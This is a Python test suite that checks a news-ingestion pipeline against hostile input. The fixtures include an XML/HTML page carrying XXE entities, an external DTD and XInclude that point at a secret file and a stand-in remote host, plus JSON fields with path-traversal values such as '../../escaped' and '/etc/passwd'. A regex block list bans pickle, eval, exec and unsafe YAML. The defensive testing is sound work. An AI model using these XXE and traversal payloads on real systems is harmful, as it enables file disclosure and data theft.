"""Untrusted input cannot read other files, reach the network, run code or write outside the output."""

from __future__ import annotations

import json
import re
import socket
from pathlib import Path

import pyarrow.dataset as ds
import pytest

from flows.pipeline import newsflow
from tasks.config import PipelineConfig
from tasks.html import extract_html
from tasks.ingest import parse_file

REPO = Path(__file__).resolve().parents[1]
PROSE = ("The two delegations met in Geneva on Tuesday to discuss grain exports, shipping insurance and the "
         "safety of ports, and agreed to meet again before the end of the month, officials said afterwards.")
SECRET = "TOP-SECRET-TOKEN-8d1f"


@pytest.fixture
def no_network(monkeypatch):
    """Fail the test on any attempt to resolve a name or open a connection."""
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network access attempted during parsing")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


def _hostile_page(secret: Path) -> str:
    return f"""<?xml version="1.0"?>
<!DOCTYPE html [
  <!ENTITY xxe SYSTEM "file://{secret}">
  <!ENTITY remote SYSTEM "http://198.51.100.7/entity.txt">
  <!ENTITY % dtd SYSTEM "http://198.51.100.7/evil.dtd"> %dtd;
]>
<html xmlns:xi="http://www.w3.org/2001/XInclude">
<head><title>Geneva talks</title><link rel="stylesheet" href="http://198.51.100.7/style.css">
<script src="http://198.51.100.7/app.js"></script><base href="file:///etc/"></head>
<body><article><h1>Geneva talks</h1>
<p>{PROSE} &xxe; &remote;</p>
<xi:include href="file://{secret}" parse="text"/>
<img src="http://198.51.100.7/pixel.gif"><iframe src="file://{secret}"></iframe>
<object data="file://{secret}"></object><embed src="{secret}">
<p>{PROSE.replace("Tuesday", "Wednesday")}</p>
</article></body></html>"""


def test_html_entities_xinclude_and_remote_references_read_no_file_and_reach_no_network(tmp_path, no_network):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    page = _hostile_page(secret)
    extracted = extract_html(page)
    assert extracted.text and "Geneva" in extracted.text
    parsed = parse_file(page.encode(), "page.html", "h", PipelineConfig())
    record = json.dumps({"html": page, "url": f"file://{secret}"}).encode()
    parsed_record = parse_file(record, "feed.jsonl", "h", PipelineConfig())
    for article in parsed.articles + parsed_record.articles:
        assert SECRET not in json.dumps(article, default=str)
    assert SECRET not in (extracted.text + str(extracted.title))
    assert parsed.articles and parsed_record.articles
    assert no_network == []


def test_paths_in_json_records_cannot_place_files_or_rows_anywhere(tmp_path, prefect_harness):
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    hostile = {"text": PROSE, "id": "../../escaped", "article_id": "../../../escaped", "path": "../../escaped.parquet",
               "source_path": "/etc/passwd", "file": "../../../../tmp/escaped", "outlet": "../../outlet",
               "url": "file:///etc/passwd", "title": "../../title"}
    (raw / "feed.jsonl").write_text(json.dumps(hostile) + "\n")
    before = {p for p in tmp_path.parent.rglob("*") if "escaped" in p.name}
    newsflow(PipelineConfig(raw_dir=str(raw), out_dir=str(out), workers=1))
    assert {p for p in tmp_path.parent.rglob("*") if "escaped" in p.name} == before
    outside = [p for p in tmp_path.rglob("*") if not (p.is_relative_to(raw) or p.is_relative_to(out))]
    assert outside == []
    (article,) = ds.dataset(out / "articles").to_table().to_pylist()
    assert article["source_path"] == "feed.jsonl" and re.fullmatch(r"[0-9a-f]{32}", article["article_id"])
    assert article["url"] in (None, "file:///etc/passwd")  # at most kept as text, never opened


def test_no_pickle_eval_or_exec_of_input_in_the_product_code():
    code = {p: p.read_text() for folder in ("tasks", "flows") for p in (REPO / folder).rglob("*.py")}
    banned = re.compile(r"\bpickle\.loads?\(|\bmarshal\.loads?\(|\bshelve\.|\beval\(|\bexec\(|yaml\.load\(|"
                        r"yaml\.unsafe_load|resolve_entities\s*=\s*True|\.xinclude\(|no_network\s*=\s*False")
    assert {str(p.relative_to(REPO)): banned.findall(text) for p, text in code.items() if banned.search(text)} == {}


def test_the_readme_starts_the_prefect_server_on_localhost_and_says_how_to_protect_it():
    readme = (REPO / "README.md").read_text()
    assert "prefect server start --host 127.0.0.1" in readme
    assert "PREFECT_SERVER_API_AUTH_STRING" in readme and "PREFECT_API_AUTH_STRING" in readme
